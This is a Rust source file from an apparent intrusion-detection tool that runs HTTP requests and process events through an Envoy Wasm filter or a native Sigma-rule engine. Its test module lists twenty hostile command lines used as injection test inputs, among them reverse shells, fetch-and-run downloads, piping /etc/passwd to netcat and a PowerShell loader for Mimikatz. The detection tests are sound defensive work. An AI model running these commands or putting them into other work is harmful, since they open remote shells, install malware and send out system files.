//! The two engines that a record can be taken through, chosen on the command line.

use std::num::NonZeroUsize;
use std::path::PathBuf;
use std::sync::{Arc, Mutex, PoisonError};
use std::time::Duration;

use anyhow::{Context as _, Result, anyhow, bail};
use portcullis::alert::{self, Context, Event};
use portcullis::body;
use portcullis::correlate::{Correlator, Local, Memory};
use portcullis::event::Source;
use portcullis::headers::Headers;
use portcullis::incident::Incidents;
use portcullis::inspect::Inspector;
use portcullis::policy::{self, Found, Live, Place, Policy};
use portcullis::ruleset::RuleSet;

use super::detector::{Action, Detector, Verdict};
use super::rules;
use crate::capture::Record;
pub(crate) use crate::capture::event::{RecordFacts, header_pairs, time_unix_ns};
use crate::host::{Ending, Exchange, Gateway, GatewayOptions, Module, Response, Worker};
use crate::report::Alert;

/// Which engine.
#[derive(Clone, Copy, Debug, PartialEq, Eq, clap::ValueEnum)]
pub enum EngineKind {
    /// The very `.wasm` file that Envoy loads, in a host that behaves as Envoy does; it sees requests, not processes
    Wasm,
    /// The same engine without the filter around it: faster, and it takes other rules and process events
    Native,
}

/// Which engine, with what.
#[derive(Clone, Debug, clap::Args)]
pub struct EngineArgs {
    /// What inspects the requests
    #[arg(long = "engine", value_enum, default_value = "wasm")]
    pub kind: EngineKind,
    /// The filter, for `--engine wasm`
    #[arg(long, value_name = "FILE.wasm", default_value = Self::DEFAULT_FILTER)]
    pub filter: PathBuf,
    /// The plugin's configuration; without it the filter detects and everything is on
    #[arg(long, value_name = "FILE")]
    pub config: Option<PathBuf>,
    /// Sigma rules, folders of them, or compiled rules, for `--engine native` [default: rules]
    #[arg(long, value_name = "PATH", num_args = 1..)]
    pub rules: Vec<PathBuf>,
    /// Requests inspected side by side, each by a worker of its own as in Envoy
    #[arg(long, value_name = "N", default_value = "1")]
    pub jobs: NonZeroUsize,
    /// Whether the filter's own time is measured.
    #[arg(skip)]
    pub is_timed: bool,
}

/// An engine that has started.
pub enum Engine {
    /// See [`EngineKind::Native`].
    Native {
        /// What to look for.
        rules: Box<RuleSet>,
        /// What to do about it.
        policy: Arc<Policy>,
        /// How many detectors.
        jobs: NonZeroUsize,
        /// What they count together.
        shared: Arc<Mutex<Shared>>,
    },
    /// See [`EngineKind::Wasm`].
    Wasm(Box<Gateway>),
}

/// What native detectors share, as the workers of a gateway do.
#[derive(Default)]
pub struct Shared {
    memory: Local,
    folded: u64,
}

impl Default for EngineArgs {
    fn default() -> Self {
        Self {
            kind: EngineKind::Wasm,
            filter: Self::DEFAULT_FILTER.into(),
            config: None,
            rules: Vec::new(),
            jobs: NonZeroUsize::MIN,
            is_timed: false,
        }
    }
}

impl EngineArgs {
    /// Where `make wasm` puts the filter.
    pub const DEFAULT_FILTER: &str = "target/portcullis_http.wasm";

    /// Starts the engine, with every alert of every request.
    pub fn start(&self) -> Result<Engine> {
        self.start_as(false)
    }

    /// Starts the engine. `folds`: the alerts that a source raises again and again are folded as the configuration says.
    pub fn start_as(&self, folds: bool) -> Result<Engine> {
        let mut config = match &self.config {
            Some(path) => {
                std::fs::read(path).with_context(|| format!("cannot read {}", path.display()))?
            }
            None => Vec::new(),
        };
        match self.kind {
            EngineKind::Native => {
                let (mut policy, rules) = load(&config, &self.rules)?;
                if !folds {
                    policy.fold_ns = None;
                }
                Ok(Engine::Native {
                    rules: Box::new(rules),
                    policy: Arc::new(policy),
                    jobs: self.jobs,
                    shared: Arc::default(),
                })
            }
            EngineKind::Wasm => {
                if !self.rules.is_empty() {
                    bail!(
                        "`--rules` is for `--engine native`: the filter has its rules compiled in"
                    );
                }
                let path = self.filter.display();
                let bytes = std::fs::read(&self.filter).with_context(|| {
                    format!("cannot read the filter {path} (build it with `make wasm`, or name one with `--filter`)")
                })?;
                if !folds {
                    config = unfolded(config);
                }
                let module = Module::compile(&bytes)
                    .with_context(|| format!("cannot load the filter {path}"))?;
                let options = GatewayOptions {
                    workers: self.jobs.get(),
                    plugin_config: config,
                    is_timed: self.is_timed,
                    ..GatewayOptions::default()
                };
                let gateway = Gateway::start(&module, options)
                    .map_err(|error| anyhow!("the filter {path} did not start: {error}"))?;
                Ok(Engine::Wasm(Box::new(gateway)))
            }
        }
    }
}

/// This configuration, but with every alert written. One that is no JSON is left as it is.
fn unfolded(config: Vec<u8>) -> Vec<u8> {
    const UNFOLDED: &str = r#""incidents":{"fold":false}"#;
    if let Some((rules, text)) = RuleSet::split_off(&config) {
        return [rules, &unfolded(text.to_vec())].concat();
    }
    if config.trim_ascii().is_empty() {
        return format!("{{{UNFOLDED}}}").into_bytes();
    }
    let Ok(serde_json::Value::Object(mut map)) = serde_json::from_slice(&config) else {
        return config;
    };
    if map.is_empty() || map.contains_key("incidents") {
        map.insert("incidents".to_owned(), serde_json::json!({"fold": false}));
        return serde_json::Value::from(map).to_string().into_bytes();
    }
    // Put in as text, so that what is wrong with the rest stays wrong.
    let rest = config.trim_ascii_start();
    let rest = rest.strip_prefix(b"{").unwrap_or(rest);
    [b"{", UNFOLDED.as_bytes(), b",", rest].concat()
}

/// A configuration and the rules that run: its own, or those that are named.
pub(crate) fn load(configuration: &[u8], paths: &[PathBuf]) -> Result<(Policy, RuleSet)> {
    let refused = |error| anyhow!("{error}");
    let has_rules = RuleSet::split_off(configuration).is_some()
        || Policy::read(configuration)
            .map_err(refused)?
            .ruleset
            .is_some();
    if has_rules {
        if !paths.is_empty() {
            bail!("the configuration has a `ruleset`, and rules are named as well: keep one");
        }
        // It does not ask for others.
        return Policy::load(configuration, || RuleSet::open(Vec::new())).map_err(refused);
    }
    let rules = rules::load(paths)?;
    Policy::load(configuration, || Ok(rules)).map_err(refused)
}

impl Engine {
    /// One native detector for these rules, with nothing configured.
    pub fn native(rules: RuleSet) -> Self {
        Self::Native {
            rules: Box::new(rules),
            policy: Arc::new(Policy {
                fold_ns: None,
                ..Policy::default()
            }),
            jobs: NonZeroUsize::MIN,
            shared: Arc::default(),
        }
    }

    /// Alerts that were folded into others so far.
    pub fn folded(&self) -> u64 {
        match self {
            Engine::Native { shared, .. } => {
                shared.lock().unwrap_or_else(PoisonError::into_inner).folded
            }
            Engine::Wasm(gateway) => gateway
                .process()
                .metric("portcullis.folded_alerts")
                .unwrap_or(0),
        }
    }

    /// The configuration; that of a filter is its own affair.
    pub(crate) fn policy(&self) -> Arc<Policy> {
        match self {
            Engine::Native { policy, .. } => Arc::clone(policy),
            Engine::Wasm(_) => Arc::default(),
        }
    }

    /// One detector for each worker.
    pub fn detectors(&mut self) -> Vec<Box<dyn Detector + Send + '_>> {
        match self {
            Engine::Native {
                rules,
                policy,
                jobs,
                shared,
            } => (0..jobs.get())
                .map(|_| {
                    Box::new(Native {
                        inspector: inspector(rules, policy),
                        correlator: Correlator::default(),
                        incidents: Incidents::default(),
                        policy: Arc::clone(policy),
                        shared: Arc::clone(shared),
                    }) as _
                })
                .collect(),
            Engine::Wasm(gateway) => gateway
                .workers()
                .iter_mut()
                .map(|worker| Box::new(Wasm { worker }) as _)
                .collect(),
        }
    }
}

fn inspector(rules: &RuleSet, policy: &Policy) -> Inspector {
    let mut inspector = Inspector::new(RuleSet::clone(rules));
    inspector.set_scope(policy.scope());
    inspector
}

struct Native {
    inspector: Inspector,
    correlator: Correlator,
    incidents: Incidents,
    policy: Arc<Policy>,
    shared: Arc<Mutex<Shared>>,
}

impl Native {
    /// Raises what policy lets stand of `found`. Returns whether the request is blocked.
    fn report(
        &mut self,
        record: &Record,
        found: Found<'_>,
        (truncated, status): (bool, Option<u16>),
        alerts: &mut Vec<Alert>,
    ) -> bool {
        let event = found.event;
        let source = record.source_address().map(String::from_utf8_lossy);
        let context = Context {
            source: source.as_deref(),
            route: None,
            time_unix_ns: time_unix_ns(record),
            truncated,
            status,
        };
        let (place, live) = match event {
            Event::Request(headers) => (Place::of(headers), Live::default()),
            Event::Process(..) => <_>::default(),
        };
        let effective = self.policy.effective(&place, &live, context.time_unix_ns);
        let facts = RecordFacts(record);
        let Native {
            inspector,
            correlator,
            incidents,
            ..
        } = self;
        let mut shared = self.shared.lock().unwrap_or_else(PoisonError::into_inner);
        let Shared { memory, folded } = &mut *shared;
        let counting = (correlator, memory as &mut dyn Memory);
        let standing = policy::judge(inspector, counting, found, &facts, &effective);
        let mut raised = alert::alerts(
            self.inspector.rules(),
            &standing,
            event,
            &context,
            // A process has started already; there is nothing to block.
            |rule, severity, confidence| match event {
                Event::Request(_) if status.is_none() => {
                    effective.action(rule, severity, confidence)
                }
                // Nor is there once the response is on its way.
                _ => policy::Action::Detected,
            },
        );
        let source = source.as_deref().map(alert::without_port);
        let time_ns = context.time_unix_ns;
        for alert in &mut raised {
            let is_line = self
                .policy
                .fold_ns
                .is_none_or(|window_ns| incidents.tell(memory, alert, source, time_ns, window_ns));
            *folded += u64::from(!is_line);
            // Only text and numbers are in an alert, so it can always be written.
            if is_line && let Ok(value) = serde_json::to_value(&*alert) {
                alerts.push(Alert(value));
            }
        }
        raised
            .iter()
            .any(|alert| alert.extended_properties.action == policy::Action::Blocked.name())
    }

    /// Inspects the head of a request and, if that is not blocked, its body, and then what both come to with the
    /// response.
    fn request(&mut self, record: &Record, alerts: &mut Vec<Alert>) -> Verdict {
        let pairs = header_pairs(record);
        let head = Headers::Pairs(&pairs);
        let inspection = self.inspector.request(head, &RecordFacts(record));
        let mut truncated = inspection.truncated;
        let mut is_blocked = false;
        let detections = inspection.detections.to_vec();
        let mut is_open = !self.inspector.awaiting().is_empty();
        if !detections.is_empty() {
            let found = Found {
                event: head.into(),
                body: None,
                detections,
            };
            is_blocked = self.report(record, found, (truncated, None), alerts);
        }
        let content = record.body().unwrap_or_default();
        let body_bytes = match content.is_empty() {
            true => 0,
            false => {
                let (place, live) = (Place::of(head), Live::default());
                self.policy.effective(&place, &live, 0).body_bytes()
            }
        };
        let kept = content.get(..body_bytes).unwrap_or(content);
        if !is_blocked
            && !kept.is_empty()
            && let Some(request) = body::Request::new(head, kept)
        {
            let inspection = (self.inspector).body(head, &request, &RecordFacts(record));
            truncated |= inspection.truncated || kept.len() < content.len();
            let detections = inspection.detections.to_vec();
            is_open |= !self.inspector.awaiting().is_empty();
            if !detections.is_empty() {
                let found = Found {
                    event: head.into(),
                    body: Some(&request),
                    detections,
                };
                is_blocked = self.report(record, found, (truncated, None), alerts);
            }
        }
        if let Some(status) = record.status.filter(|_| !is_blocked)
            && (is_open || self.inspector.concerns_any_request(status))
        {
            self.response(record, status, (head, kept), truncated, alerts);
        }
        Verdict {
            action: if is_blocked {
                Action::Block
            } else {
                Action::Allow
            },
            truncated,
            failure: None,
        }
    }
}

impl Native {
    /// Asks the rules about the response, with the head and the body of the request.
    fn response(
        &mut self,
        record: &Record,
        status: u16,
        (head, content): (Headers<'_>, &[u8]),
        truncated: bool,
        alerts: &mut Vec<Alert>,
    ) {
        let facts = RecordFacts(record);
        let detections = self.inspector.response(head, &facts).detections.to_vec();
        let mut report = |native: &mut Self, body, detections: Vec<_>| {
            if !detections.is_empty() {
                let found = Found {
                    event: head.into(),
                    body,
                    detections,
                };
                native.report(record, found, (truncated, Some(status)), alerts);
            }
        };
        report(self, None, detections);
        if content.is_empty() {
            return;
        }
        if let Some(request) = body::Request::new(head, content) {
            let inspection = self.inspector.response_body(head, &request, &facts);
            let detections = inspection.detections.to_vec();
            report(self, Some(&request), detections);
        }
    }
}

impl Detector for Native {
    fn inspect(&mut self, record: &Record, alerts: &mut Vec<Alert>) -> Verdict {
        if self.policy.is_off {
            return Verdict::default();
        }
        if !record.is_process() {
            return self.request(record, alerts);
        }
        let fields: Vec<_> = record.process().collect();
        let inspection = self.inspector.fields(Source::Process, &fields);
        let truncated = inspection.truncated;
        if !inspection.detections.is_empty() {
            let host = record.authority().unwrap_or_default();
            let found = Found {
                event: Event::Process(&fields, host),
                body: None,
                detections: inspection.detections.to_vec(),
            };
            self.report(record, found, (truncated, None), alerts);
        }
        Verdict {
            truncated,
            ..Verdict::default()
        }
    }
}

struct Wasm<'a> {
    worker: &'a mut Worker,
}

impl Detector for Wasm<'_> {
    fn detecting(&self) -> Option<Duration> {
        self.worker.in_plugin()
    }

    fn inspect(&mut self, record: &Record, alerts: &mut Vec<Alert>) -> Verdict {
        if record.is_process() {
            return Verdict {
                failure: Some(
                    "a process, and the filter sees requests only (add `--engine native`)".into(),
                ),
                ..Verdict::default()
            };
        }
        let pairs = header_pairs(record);
        // Envoy's `source.address` has the port in it, and captures seldom know one.
        let source = match (record.source_ip(), record.source_address()) {
            (Some(ip), _) => Some(std::net::SocketAddr::new(ip, 0).to_string()),
            (None, name) => name.map(|name| String::from_utf8_lossy(name).into_owned()),
        };
        // A rule may ask for the status, which a gateway knows once the upstream has answered.
        let status = record.status.map(|status| status.to_string());
        let response_headers = status
            .iter()
            .map(|status| (&b":status"[..], status.as_bytes()))
            .collect::<Vec<_>>();
        let exchange = Exchange {
            request_headers: &pairs,
            request_body: record.body().unwrap_or_default(),
            source_address: source.as_deref(),
            time_unix_ns: time_unix_ns(record),
            response: status.is_some().then_some(Response {
                headers: &response_headers,
                body: &[],
                trailers: &[],
            }),
            ..Exchange::default()
        };
        let outcome = self.worker.exchange(&exchange);
        let logged = outcome
            .logs
            .iter()
            .filter_map(|log| serde_json::from_slice(&log.message).ok());
        alerts.extend(
            logged
                .map(Alert)
                .filter(|alert| !alert.alert_type().is_empty()),
        );
        let truncated = alerts
            .iter()
            .any(|alert| alert.0.pointer("/ExtendedProperties/Truncated") == Some(&true.into()));
        let action = match outcome.ending {
            Ending::LocalResponse => Action::Block,
            Ending::Bypassed => Action::Bypass,
            _ => Action::Allow,
        };
        let failure = outcome.trapped.or_else(|| match outcome.ending {
            Ending::Forwarded | Ending::LocalResponse => None,
            ending => Some(format!("{ending:?}")),
        });
        Verdict {
            action,
            truncated,
            failure,
        }
    }
}

#[cfg(test)]
mod tests {
    #![allow(clippy::panic, clippy::unwrap_used)]
    use super::*;

    /// Injected commands, and the alert of the command's own that the request raises beside the injection's.
    const ATTEMPTS: [(&str, &str); 20] = [
        ("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "ReverseShell"),
        ("nc -e /bin/sh 10.0.0.1 4444", "ReverseShell"),
        (
            "wget http://198.51.100.7/a -O /tmp/a; chmod +x /tmp/a; /tmp/a",
            "SuspectDownloadArtifacts",
        ),
        ("wget http://198.51.100.7/a.sh", "SuspectDownload"),
        (
            "curl -s http://198.51.100.7/a.sh | sh",
            "FilelessAttackBehaviorDetection",
        ),
        (
            "certutil -urlcache -f http://198.51.100.7/a.exe a.exe",
            "DownloadUsingCertutil",
        ),
        (
            "certutil -decode a.txt a.exe",
            "ExecutableDecodedUsingCertutil",
        ),
        (
            "powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA",
            "Base64EncodedExecutableInCommandLineParams",
        ),
        (
            "echo IyEvYmluL3NoCmVjaG8gaGkK | base64 -d | sh",
            "Base64EncodedExecutableInCommandLineParams",
        ),
        ("curl http://198.51.100.7/a -o /tmp/a", "CurlToDisk"),
        (
            "curl https://pastebin.com/raw/abc",
            "DownloadCodeFromWebsite",
        ),
        ("cat /etc/passwd | nc 10.0.0.1 99", "DataEgressArtifacts"),
        (
            "nslookup $(whoami).abc.oastify.com",
            "CommandlineSuspectDomain",
        ),
        ("php -r 'system(\"id\");'", "SuspectPhp"),
        ("wget http://192.0.2.1/xmrig.tgz", "CryptoCoinMinerDownload"),
        (
            "wget -O- http://192.0.2.1/a | ./a -o stratum+tcp://pool.example.org:3333",
            "DigitalCurrencyMining",
        ),
        ("cmd /c cat /etc/passwd", "LinuxCommandOnWindows"),
        ("chmod u+s /bin/bash", "HighPrivilegeCommand"),
        (
            "powershell -c \"IEX(New-Object Net.WebClient).DownloadString('http://192.0.2.7/a.ps1')\"",
            "FilelessAttackTechniqueDetection",
        ),
        (
            "powershell -c \"IEX(New-Object Net.WebClient).DownloadString('http://192.0.2.7/Invoke-Mimikatz.ps1')\"",
            "PowerShellPowerSploitScriptExecution",
        ),
    ];

    /// Compiled once: without optimisation that takes a while.
    static SHIPPED: std::sync::LazyLock<RuleSet> = std::sync::LazyLock::new(|| {
        let rules = concat!(env!("CARGO_MANIFEST_DIR"), "/../rules");
        rules::load(&[rules.into()]).unwrap()
    });

    fn encoded(text: &str) -> String {
        text.bytes().map(|byte| format!("%{byte:02x}")).collect()
    }

    fn raised(detector: &mut dyn Detector, record: &Record) -> Vec<Alert> {
        let mut alerts = Vec::new();
        detector.inspect(record, &mut alerts);
        alerts
    }

    #[test]
    fn an_injected_command_is_named_for_what_it_would_do() {
        let mut engine = Engine::native(SHIPPED.clone());
        let detector = &mut *engine.detectors().remove(0);
        let mut failures = Vec::new();
        for (command, alert) in ATTEMPTS {
            let places = [
                format!("/ping?host=127.0.0.1;{}", encoded(command)),
                // Another parameter has a command that means nothing by itself.
                format!("/ping?a=;id&host=127.0.0.1%0a{}", encoded(command)),
            ];
            for target in places {
                let alerts = raised(detector, &Record::new(b"GET", target.as_bytes()));
                let types: Vec<&str> = alerts.iter().map(Alert::alert_type).collect();
                let found = alerts
                    .iter()
                    .find(|found| found.alert_type() == format!("AppServices_{alert}"));
                if !types.contains(&"Gateway_CommandInjection")
                    || found.is_none_or(|found| {
                        (found.text("Stage"), found.text("Field")) != ("attempt", "CommandLine")
                            || found.text("Method") != "GET"
                    })
                {
                    failures.push(format!("{command}: {types:?}, not {alert}"));
                }
            }
        }
        assert!(failures.is_empty(), "{failures:#?}");
    }

    #[test]
    fn a_command_that_nothing_injects_is_no_attempt() {
        let mut engine = Engine::native(SHIPPED.clone());
        let detector = &mut *engine.detectors().remove(0);
        for target in [
            "/search?q=bash+-i+%3E%26+%2Fdev%2Ftcp",
            "/docs?q=how%20to%20decode%20with%20certutil%20-decode",
            "/?url=https%3A%2F%2Fpastebin.com%2Fraw%2Fabc",
            "/",
        ] {
            let alerts = raised(detector, &Record::new(b"GET", target.as_bytes()));
            assert!(
                alerts.iter().all(|alert| alert.text("Stage").is_empty()),
                "{target}: {alerts:?}"
            );
        }
    }

    #[test]
    fn a_process_raises_an_alert_without_a_request() {
        let mut engine = Engine::native(SHIPPED.clone());
        let detector = &mut *engine.detectors().remove(0);
        let line = r#"{"Image":"C:\\Users\\Public\\svchost.exe","CommandLine":"svchost.exe -k x","ParentImage":"C:\\a.exe","Computer":"web-1"}"#;
        let mut reader = crate::capture::Reader::new("x", line.as_bytes(), None).unwrap();
        let mut record = Record::default();
        reader.read(&mut record).unwrap().unwrap();
        let alerts = raised(detector, &record);
        let [alert] = alerts.as_slice() else {
            panic!("{alerts:?}")
        };
        assert_eq!(alert.alert_type(), "AppServices_SVCHostFromInvalidPath");
        assert_eq!(alert.text("CompromisedEntity"), "web-1");
        assert_eq!(alert.text("CommandLine"), "svchost.exe -k x");
        assert_eq!(alert.text("ParentImage"), r"C:\a.exe");
        let properties = &alert.0["ExtendedProperties"];
        for absent in ["Stage", "Method", "Target", "UserAgent"] {
            assert!(properties.get(absent).is_none(), "{absent}");
        }
        assert_eq!(alert.0["Entities"][0]["Type"], "process");
    }
}
